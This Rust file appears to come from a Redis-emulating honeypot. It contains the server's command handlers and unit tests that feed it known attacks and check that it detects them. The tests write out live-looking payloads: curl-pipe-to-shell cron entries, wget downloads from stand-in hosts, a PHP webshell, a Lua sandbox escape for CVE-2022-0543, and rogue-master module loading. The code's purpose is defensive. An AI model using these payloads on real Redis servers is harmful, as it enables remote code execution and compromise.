    match upper(&args[1]).as_str() {
        "LOAD" if args.len() >= 3 => {
            let path: String = text(&args[2]).chars().take(1024).collect();
            let mut extra = vec![("path".to_string(), path.clone())];
            let rest: Vec<String> = args[3..].iter().take(8).map(|a| text(a)).collect();
            if !rest.is_empty() {
                extra.push(("args".into(), rest.join(" ")));
            }
            if let Some((h, p)) = &data.master {
                extra.push(("master".into(), format!("{h}:{p}")));
            }
            out.exploits.push(Detail::Exploit { name: "redis-module-load".into(), cve: String::new(), extra });
            if data.modules.len() < MAX_MODULES && !data.modules.contains(&path) {
                data.modules.push(path);
                out.changed = true;
            }
            resp::simple("OK")
        }
        "LIST" => {
            let items: Vec<Vec<u8>> = data
                .modules
                .iter()
                .map(|m| {
                    resp::array_of(&[
                        resp::bulk(b"name"),
                        resp::bulk(module_name(m).as_bytes()),
                        resp::bulk(b"ver"),
                        resp::integer(1),
                    ])
                })
                .collect();
            resp::array_of(&items)
        }
        "UNLOAD" if args.len() == 3 => {
            let name = text(&args[2]);
            let before = data.modules.len();
            data.modules.retain(|m| module_name(m) != name);
            if data.modules.len() == before {
                resp::error("ERR Error unloading module: no such module with that name")
            } else {
                out.changed = true;
                resp::simple("OK")
            }
        }
        _ => resp::error(&format!("ERR unknown subcommand '{}'. Try MODULE HELP.", text(&args[1]))),
    }
}

fn hello(version: &str, conn: &Conn, args: &[Vec<u8>]) -> Vec<u8> {
    // This server speaks RESP2 only: `HELLO 3` is refused as Redis refuses an unknown version,
    // and clients fall back to RESP2.
    if args.get(1).is_some_and(|v| v.as_slice() != b"2") {
        return resp::error("NOPROTO unsupported protocol version");
    }
    resp::array_of(&[
        resp::bulk(b"server"),
        resp::bulk(b"redis"),
        resp::bulk(b"version"),
        resp::bulk(version.as_bytes()),
        resp::bulk(b"proto"),
        resp::integer(2),
        resp::bulk(b"id"),
        resp::integer(conn.id as i64),
        resp::bulk(b"mode"),
        resp::bulk(b"standalone"),
        resp::bulk(b"role"),
        resp::bulk(b"master"),
        resp::bulk(b"modules"),
        b"*0\r\n".to_vec(),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn a(args: &[&str]) -> Vec<Vec<u8>> {
        args.iter().map(|s| s.as_bytes().to_vec()).collect()
    }

    fn run(data: &mut Dataset, args: &[&str]) -> Outcome {
        let f = flavor(Persona::Mixed);
        execute(f, f.version, data, &mut Conn::default(), &a(args), 1_700_000_000, "0123")
    }

    #[test]
    fn the_cron_campaign_is_one_exploit_with_what_was_written_where() {
        let mut d = Dataset::default();
        assert_eq!(run(&mut d, &["FLUSHALL"]).reply, b"+OK\r\n");
        let set = run(&mut d, &["set", "x", "\n*/1 * * * * curl -fsSL http://203.0.113.7/i.sh|sh\n"]);
        assert_eq!(set.reply, b"+OK\r\n");
        assert_eq!(set.payloads.len(), 1);
        assert_eq!((set.payloads[0].0.as_str(), set.payloads[0].1), ("x", "cron"));
        assert_eq!(set.shell_text.len(), 1);
        assert_eq!(run(&mut d, &["config", "set", "dir", "/var/spool/cron"]).reply, b"+OK\r\n");
        assert!(run(&mut d, &["config", "set", "dbfilename", "root"]).exploits.is_empty());
        let get = run(&mut d, &["config", "get", "dir"]);
        assert_eq!(get.reply, resp::array(&["dir", "/var/spool/cron"]));
        let save = run(&mut d, &["SAVE"]);
        assert_eq!(save.reply, b"+OK\r\n");
        let Some(Detail::Exploit { name, extra, .. }) = save.exploits.first() else { panic!("{save:?}") };
        assert_eq!(name, "redis-cron-write");
        assert!(extra.contains(&("path".into(), "/var/spool/cron/root".into())));
        assert!(extra.iter().any(|(k, v)| k == "value:x" && v.contains("curl -fsSL http://203.0.113.7/i.sh|sh")));
        // A plain SAVE with the default dir is no exploit.
        assert!(run(&mut Dataset::default(), &["SAVE"]).exploits.is_empty());
    }

    #[test]
    fn rogue_master_module_load_and_lua_escape() {
        let mut d = Dataset::default();
        let r = run(&mut d, &["SLAVEOF", "203.0.113.9", "21000"]);
        assert_eq!(r.reply, b"+OK\r\n");
        assert!(matches!(&r.exploits[0], Detail::Exploit { name, .. } if name == "redis-rogue-master"));
        assert!(run(&mut d, &["INFO", "replication"]).reply.windows(10).any(|w| w == b"role:slave"));
        let m = run(&mut d, &["MODULE", "LOAD", "./exp.so"]);
        assert!(matches!(&m.exploits[0], Detail::Exploit { name, extra, .. }
            if name == "redis-module-load" && extra.contains(&("master".into(), "203.0.113.9:21000".into()))));
        let ex = run(&mut d, &["system.exec", "wget http://203.0.113.9/m -O /tmp/m"]);
        assert_eq!(ex.shell_text, vec!["wget http://203.0.113.9/m -O /tmp/m".to_string()]);
        assert_eq!(run(&mut d, &["REPLICAOF", "NO", "ONE"]).exploits.len(), 0);
        let lua = run(
            &mut d,
            &["eval", "local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')", "0"],
        );
        assert!(matches!(&lua.exploits[0], Detail::Exploit { cve, .. } if cve == "CVE-2022-0543"));
    }

    #[test]
    fn believable_answers() {
        let mut d = Dataset::default();
        let info = String::from_utf8(run(&mut d, &["info"]).reply).unwrap();
        assert!(info.starts_with("$") && info.contains("\r\n# Server\r\nredis_version:6.0.16\r\n"), "{info}");
        assert!(info.contains("os:Linux 5.10.0-28-amd64 x86_64") && info.contains("# Keyspace"));
        assert_eq!(
            run(&mut d, &["GET", "/", "HTTP/1.0"]).reply,
            b"-ERR wrong number of arguments for 'get' command\r\n"
        );
        assert!(run(&mut d, &["POST", "/"]).close);
        assert_eq!(
            run(&mut d, &["nope", "a"]).reply,
            b"-ERR unknown command `nope`, with args beginning with: `a`, \r\n"
        );
        assert_eq!(run(&mut d, &["ping"]).reply, b"+PONG\r\n");
        assert_eq!(run(&mut d, &["incr", "n"]).reply, b":1\r\n");
        assert_eq!(run(&mut d, &["keys", "*"]).reply, resp::array(&["n"]));
        let f7 = flavor(Persona::LinuxServer);
        let r = execute(f7, f7.version, &mut d, &mut Conn::default(), &a(&["nope", "a"]), 0, "x");
        assert_eq!(r.reply, b"-ERR unknown command 'nope', with args beginning with: 'a' \r\n");
        let mut c = Conn::default();
        let f = flavor(Persona::Mixed);
        assert_eq!(execute(f, f.version, &mut d, &mut c, &a(&["multi"]), 0, "x").reply, b"+OK\r\n");
        assert_eq!(execute(f, f.version, &mut d, &mut c, &a(&["ping"]), 0, "x").reply, b"+QUEUED\r\n");
        assert_eq!(execute(f, f.version, &mut d, &mut c, &a(&["exec"]), 0, "x").reply, b"*1\r\n+PONG\r\n");
    }

    #[test]
    fn one_machine_per_persona() {
        // The Redis and the Docker of a persona run on the same kernel and OS.
        use crate::protocols::docker::api::engine;
        for p in [Persona::Mixed, Persona::LinuxServer, Persona::IotRouter] {
            let (redis, docker) = (flavor(p), engine(p));
            assert!(redis.os.starts_with("Linux ") && docker.os == "linux", "{p:?}");
        }
        assert!(flavor(Persona::IotRouter).os.contains(engine(Persona::IotRouter).kernel));
        assert!(flavor(Persona::IotRouter).os.ends_with("aarch64") && engine(Persona::IotRouter).arch == "arm64");
        assert_eq!((flavor(Persona::WindowsServer).os, engine(Persona::WindowsServer).os), ("Windows", "windows"));
    }

    #[test]
    fn the_dataset_is_bounded() {
        let mut d = Dataset::default();
        for i in 0..1000 {
            run(&mut d, &["set", &format!("k{i}"), &"v".repeat(100)]);
        }
        assert!(d.keys.len() <= MAX_KEYS && d.bytes() <= MAX_DATA_BYTES);
        assert!(d.dropped > 0);
        for i in 0..100 {
            run(&mut d, &["module", "load", &format!("/tmp/{i}.so")]);
        }
        assert_eq!(d.modules.len(), MAX_MODULES);
    }

    #[test]
    fn payload_kinds_and_globs() {
        assert_eq!(payload_kind(b"\n\nssh-rsa AAAAB3NzaC1yc2E root@x\n\n"), Some("ssh-key"));
        assert_eq!(payload_kind(b"@reboot /tmp/x"), Some("cron"));
        assert_eq!(payload_kind(b"<?php system($_GET[1]); ?>"), Some("webshell"));
        assert_eq!(payload_kind(b"\x7fELF\x02\x01"), Some("elf"));
        assert_eq!(payload_kind(&[0u8; 300]), Some("binary"));
        assert_eq!(payload_kind(b"hello"), None);
        assert_eq!(payload_kind(b"1 2 3"), None);
        assert!(glob(b"*", b"abc") && glob(b"a?c", b"abc") && glob(b"*c", b"abc") && !glob(b"b*", b"abc"));
        assert!(glob(b"d*", b"dir") && glob(b"*", b"") && !glob(b"x", b""));
        assert_eq!(
            write_target("/root/.ssh/", "authorized_keys"),
            ("/root/.ssh/authorized_keys".into(), "redis-ssh-key-write")
        );
        assert_eq!(write_target("/var/www/html", "x.php").1, "redis-webshell-write");
    }

    #[test]
    fn hostile_input_never_panics() {
        let f = flavor(Persona::Mixed);
        let mut d = Dataset::default();
        let mut c = Conn::default();
        let cmds: [&[u8]; 12] = [
            b"SET", b"CONFIG", b"MSET", b"INFO", b"MODULE", b"SLAVEOF", b"EVAL", b"CLIENT", b"SCAN", b"KEYS",
            b"INCRBY", b"MULTI",
        ];
        for (i, b) in crate::protocols::hostile::random_inputs(0x7ed1_5000_6379_0003, 20_000, 80, false).enumerate() {
            let _ = payload_kind(&b);
            let _ = glob(&b, b"dbfilename");
            let _ = glob(b"*a*b*", &b);
            let mut args = vec![cmds[i % cmds.len()].to_vec()];
            args.extend(b.split(|&c| c == b' ').take(8).map(<[u8]>::to_vec));
            let _ = execute(f, f.version, &mut d, &mut c, &args, i as u64, "x");
            assert!(d.keys.len() <= MAX_KEYS);
        }
    }
}
